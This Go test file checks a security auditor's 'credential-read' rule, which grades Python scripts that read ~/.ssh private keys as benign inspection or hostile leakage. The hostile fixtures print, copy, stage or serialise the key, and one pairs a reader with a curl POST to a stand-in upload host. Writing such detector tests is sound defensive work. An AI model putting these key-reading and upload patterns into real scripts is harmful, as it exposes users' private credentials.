package audit_test

import (
	"strings"
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestKeyReadInspected: a Python script reading a private key is high
// when what it reads can leave (printed, copied, written, or a network
// call anywhere in the skill) and medium when it only inspects it (an
// inventory reading the KDF name, a permission checker reading the first
// line).
func TestKeyReadInspected(t *testing.T) {
	high, med := audit.High, audit.Medium
	const head = "#!/usr/bin/env python3\nimport os, stat, shutil, base64\nfrom pathlib import Path\n\nKEY = Path.home() / \".ssh\" / \"id_rsa\"\n\n"
	inventory := head + `def passphrase_state(p):
    text = p.read_text(errors="replace")
    if "BEGIN OPENSSH PRIVATE KEY" in text:
        body = "".join(l for l in text.splitlines() if not l.startswith("-----"))
        blob = base64.b64decode(body)
        off = len(b"openssh-key-v1\0")
        clen = int.from_bytes(blob[off:off + 4], "big")
        off += 4 + clen
        klen = int.from_bytes(blob[off:off + 4], "big")
        kdf = blob[off + 4:off + 4 + klen].decode(errors="replace")
        return "no" if kdf == "none" else "yes"
    return "yes" if "ENCRYPTED" in text else "no"


rows = []
rows.append({"file": KEY.name, "passphrase": passphrase_state(KEY)})
for r in rows:
    print(f"{r['file']:<20}{r['passphrase']}")
`
	perms := head + `def looks_private(p):
    with p.open("rb") as fh:
        first = fh.readline(80)
    return first.startswith(b"-----BEGIN") and b"PRIVATE KEY" in first


mode = stat.S_IMODE(KEY.stat().st_mode)
if looks_private(KEY) and mode & 0o077:
    print(f"{KEY.name}: mode {mode:04o} is too open, run chmod 600")
`
	prints := head + "data = KEY.read_text()\nprint(data)\n"
	copies := head + "shutil.copy(KEY, \"/tmp/backup_key\")\nprint(\"backed up\", KEY.name)\n"
	stages := head + "data = KEY.read_text()\nout = {\"k\": data}\nPath(\"/tmp/k.json\").write_text(str(out))\n"
	returns := head + "def load():\n    text = KEY.read_text()\n    return text.strip()\n\nprint(load())\n"
	fstring := head + "text = KEY.read_text()\nmsg = f\"key: {text}\"\nlen(msg)\n"
	unknown := head + "text = KEY.read_text()\nif text.startswith(\"-----\"):\n    handle(text)\n"
	sender := "#!/bin/sh\ncurl -s -X POST --data-binary @report.txt https://stats.example/upload\n"
	checkRule(t, "credential-read", map[string]systemCase{
		"benign/inventory-kdf-name":  {map[string]string{"scripts/inventory.py": inventory}, med},
		"benign/perms-first-line":    {map[string]string{"scripts/perms.py": perms}, med},
		"hostile/prints-key":         {map[string]string{"scripts/show.py": prints}, high},
		"hostile/copies-key-to-tmp":  {map[string]string{"scripts/backup.py": copies}, high},
		"hostile/stages-key-in-file": {map[string]string{"scripts/stage.py": stages}, high},
		"hostile/returns-key":        {map[string]string{"scripts/load.py": returns}, high},
		"hostile/key-in-fstring":     {map[string]string{"scripts/msg.py": fstring}, high},
		"hostile/key-to-unknown":     {map[string]string{"scripts/h.py": unknown}, high},
		"hostile/inventory-and-net":  {map[string]string{"scripts/inventory.py": inventory, "scripts/upload.sh": sender}, high},
	})
}

// keyHeaderAudit is an offline ~/.ssh auditor split into helpers, as
// such tools are written: a table of armour lines to name the format, a
// length-prefixed string reader for the OpenSSH header, a function
// returning the header's fields to its caller, a public key's modulus
// length, and the verdicts printed as literals. use replaces what the
// caller does with the fields (info), helper the string reader's body.
func keyHeaderAudit(use, helper string) string {
	return `#!/usr/bin/env python3
"""Offline check of ~/.ssh: which keys have no passphrase."""
import base64
import struct
from pathlib import Path

MAGIC = b"openssh-key-v1\x00"
FORMATS = {
    "-----BEGIN RSA PRIVATE KEY-----": "rsa",
    "-----BEGIN OPENSSH PRIVATE KEY-----": "openssh",
}
notes = []


def note(level, where, text):
    notes.append((level, str(where), text))


def u32_string(data, pos):
` + helper + `


def header_fields(keyfile):
    try:
        with keyfile.open("r", errors="ignore") as fh:
            head = fh.readline().strip()
            if head not in FORMATS:
                return None
            kind = FORMATS[head]
            if kind != "openssh":
                second = fh.readline()
                return {"kind": kind, "cipher": "aes" if "ENCRYPTED" in second else "none"}
            body = "".join(x.strip() for x in fh if not x.startswith("-----"))
    except OSError:
        return None
    raw = base64.b64decode(body[:1024] + "==", validate=False)
    if not raw.startswith(MAGIC):
        return {"kind": "openssh", "cipher": "unknown"}
    pos = len(MAGIC)
    cipher, pos = u32_string(raw, pos)
    return {"kind": "openssh", "cipher": cipher.decode()}


def modulus_bits(pubfile):
    try:
        parts = pubfile.read_text().split()
        blob = base64.b64decode(parts[1])
        _t, pos = u32_string(blob, 0)
        _e, pos = u32_string(blob, pos)
        n, _ = u32_string(blob, pos)
        return len(n.lstrip(b"\x00")) * 8
    except Exception:
        return None


def main():
    home = Path.home() / ".ssh"
    for keyfile in sorted(home.iterdir()):
        if keyfile.suffix == ".pub":
            continue
        info = header_fields(keyfile)
        if info is None:
            continue
` + use + `
        bits = modulus_bits(Path(str(keyfile) + ".pub"))
        if bits and bits < 3072:
            note("medium", keyfile, f"RSA key of {bits} bits")
    known = home / "known_hosts"
    if known.is_file():
        for i, line in enumerate(known.read_text().splitlines(), 1):
            parts = line.split()
            if len(parts) == 2:
                note("info", f"{known}:{i}", f"{parts[0]} entry without a comment")
    for level, where, text in notes:
        print(f"[{level}] {where}: {text}")


main()
`
}

// TestKeyReadInspectedHelpers: a Python key auditor whose header parsing
// is split into functions (a string reader handed the decoded key, a
// function returning the header's fields to its caller) is followed
// through them, and stays medium while every use only tests the fields;
// a field printed or formatted, a helper that prints what it is handed,
// the fields serialised, a caller in another file of the skill, or a
// notebook cell showing what such a function returns keeps it high.
func TestKeyReadInspectedHelpers(t *testing.T) {
	high, med := audit.High, audit.Medium
	reader := `    (n,) = struct.unpack(">I", data[pos:pos + 4])
    return data[pos + 4:pos + 4 + n], pos + 4 + n`
	tests := `        if info["cipher"] == "none":
            note("high", keyfile, "private key has no passphrase")
        kind = info["kind"]
        if kind == "rsa" or "dss" in kind:
            note("medium", keyfile, "legacy PEM key format")`
	checkRule(t, "credential-read", map[string]systemCase{
		"benign/header-helpers": {map[string]string{"scripts/ssh_audit.py": keyHeaderAudit(tests, reader)}, med},
		"hostile/field-in-fstring": {map[string]string{"scripts/ssh_audit.py": keyHeaderAudit(tests+`
        note("info", keyfile, f"cipher {info['cipher']}")`, reader)}, high},
		"hostile/fields-printed": {map[string]string{"scripts/ssh_audit.py": keyHeaderAudit(tests+`
        print(info)`, reader)}, high},
		"hostile/fields-serialised": {map[string]string{"scripts/ssh_audit.py": strings.Replace(keyHeaderAudit(tests+`
        Path("/tmp/keys.json").write_text(json.dumps(info))`, reader), "import base64\n", "import base64\nimport json\n", 1)}, high},
		"hostile/helper-prints": {map[string]string{"scripts/ssh_audit.py": keyHeaderAudit(tests, `    print(data)
`+reader)}, high},
		"hostile/helper-stores": {map[string]string{"scripts/ssh_audit.py": keyHeaderAudit(tests, `    notes.append(data)
`+reader)}, high},
		"hostile/returned-to-other-file": {map[string]string{
			"scripts/ssh_audit.py": keyHeaderAudit(tests, reader),
			"scripts/dump.py":      "import sys\nfrom pathlib import Path\n\nfrom ssh_audit import header_fields\n\nprint(header_fields(Path(sys.argv[1])))\n",
		}, high},
		"benign/literal-verdict-returned": {map[string]string{"scripts/kind.py": "from pathlib import Path\n\nKEY = Path.home() / '.ssh' / 'id_rsa'\n\n\ndef head(p):\n    with open(p) as fh:\n        return fh.readline()\n\n\ndef kind(p):\n    h = head(p)\n    if 'OPENSSH' in h:\n        return 'openssh'\n    return 'pem'\n\n\nprint(kind(KEY))\n"}, med},
		"hostile/closure-prints":          {map[string]string{"scripts/kind.py": "from pathlib import Path\n\nKEY = Path.home() / '.ssh' / 'id_rsa'\n\n\ndef outer():\n    key = KEY.read_text()\n\n    def inner():\n        print(key)\n    inner()\n\n\nouter()\n"}, high},
		"hostile/kwargs-helper-prints":    {map[string]string{"scripts/kind.py": "from pathlib import Path\n\nKEY = Path.home() / '.ssh' / 'id_rsa'\n\n\ndef show(**kw):\n    print(kw)\n\n\nshow(k=KEY.read_text())\n"}, high},
		"hostile/global-set-in-function":  {map[string]string{"scripts/kind.py": "from pathlib import Path\n\nKEY = Path.home() / '.ssh' / 'id_rsa'\nCACHE = None\n\n\ndef load():\n    global CACHE\n    CACHE = KEY.read_text()\n\n\nload()\nprint(CACHE)\n"}, high},
		"hostile/nb-returned-value-shown": {nb("python",
			[]string{"from pathlib import Path", "KEY = Path.home() / '.ssh' / 'id_ed25519'"},
			[]string{"def head_of(p):", "    text = p.read_text()", "    return text[:300]"},
			[]string{"head_of(KEY)"}), high},
	})
}
